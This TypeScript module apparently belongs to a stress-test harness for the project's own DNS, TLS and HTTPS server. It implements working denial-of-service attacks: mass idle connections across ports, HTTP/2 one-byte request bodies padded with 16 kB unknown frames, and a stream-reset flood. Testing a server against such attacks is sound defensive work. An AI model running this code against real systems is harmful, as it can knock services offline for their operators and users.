/** Attacks by those who are not served: they need only reach the ports. */
import type { Socket } from 'node:net';
import { SERVER, STRANGERS } from '../shared/target.js';
import { type Attack, type AttackContext, pace } from './attack.js';
import { resetsFrom } from './https-attacks.js';
import { frame, openSession, openSocket, POST } from './http2-frames.js';

/** More than a resolver takes, `DNS_TCP_CONNECTIONS`. */
const CONNECTIONS = 6_000;
const CONNECTIONS_PER_SECOND = 800;
const SESSIONS = 8;
const STREAMS = 60;
const PIECES_PER_SECOND = 2_500;
/** What comes with one byte of a body: about as much as a socket is read into at once. */
const FILLER_BYTES = 16_000;
const [DATA, HEADERS, UNKNOWN] = [0, 1, 0xfe];
const END_HEADERS = 4;

/** Connections over TCP, TLS and HTTPS that say nothing, from many addresses. */
export const connections: Attack = async (context) => {
  const { target, counts } = context;
  const ports = [target.dnsPort, target.tlsPort, target.httpsPort];
  let wanted = CONNECTIONS;
  await pace(context, CONNECTIONS_PER_SECOND, (n) => {
    if (wanted === 0) return;
    wanted--;
    counts.add('connections');
    openSocket(context, ports[n % ports.length] ?? 0, strangerOf(n)).on('close', () => {
      counts.add('closed');
      wanted++;
    });
  });
};

/** Bodies over HTTP/2 of which one byte comes at a time, each among 16 kB that mean nothing. */
export const oneByteBodies: Attack = async (context) => {
  const sessions: (Socket | null)[] = Array.from({ length: SESSIONS }, () => null);
  await pace(context, PIECES_PER_SECOND, (n) => {
    const at = n % SESSIONS;
    const session = (sessions[at] ??= openPosts(context, at, () => (sessions[at] = null)));
    if (session.writableLength > FILLER_BYTES) return;
    context.counts.add('pieces');
    const stream = 1 + 2 * (Math.floor(n / SESSIONS) % STREAMS);
    session.write(
      Buffer.concat([frame(DATA, 0, stream, Buffer.from('x')), frame(UNKNOWN, 0, 0, FILLER)]),
    );
  });
};

/** As a subscriber's `resets`. */
export const resets = resetsFrom(STRANGERS);

const FILLER = Buffer.alloc(FILLER_BYTES);

/** A session with requests whose bodies have not begun. */
function openPosts(context: AttackContext, n: number, onClose: () => void): Socket {
  const session = openSession(context, strangerOf(n), onClose);
  for (let i = 0; i < STREAMS; i++) session.write(frame(HEADERS, END_HEADERS, 1 + 2 * i, POST));
  return session;
}

function strangerOf(n: number): string {
  return STRANGERS[n % STRANGERS.length] ?? SERVER;
}
